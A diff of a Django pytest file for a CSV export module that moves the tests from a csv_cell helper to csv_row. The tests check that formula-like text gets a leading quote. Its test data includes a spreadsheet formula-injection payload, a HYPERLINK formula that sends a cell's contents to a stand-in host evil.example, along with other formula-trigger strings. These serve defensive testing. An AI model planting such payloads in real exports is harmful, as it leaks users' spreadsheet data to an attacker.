@@ -8,7 +8,7 @@ from decimal import Decimal
 import pytest
 from django.test import Client
 
-from deliveries.csv_export import csv_cell
+from deliveries.csv_export import csv_row
 
 from ..factories import make_user
 from ..helpers import fixture_bytes
@@ -21,7 +21,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
     [FORMULA, "+919876543210", "+91 98••••3210", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
 )
 def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted(text):
-    assert csv_cell(text) == "'" + text
+    assert csv_row([text, 1]) == ["'" + text, 1]
 
 
 @pytest.mark.parametrize(
@@ -29,7 +29,7 @@ def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted(text):
 )
 def test_other_text_and_real_numbers_are_written_as_they_are(value):
     # Numbers are ours (counts, rates, latencies): a negative one is still a number.
-    assert csv_cell(value) == value
+    assert csv_row([value]) == [value]
 
 
 @pytest.fixture
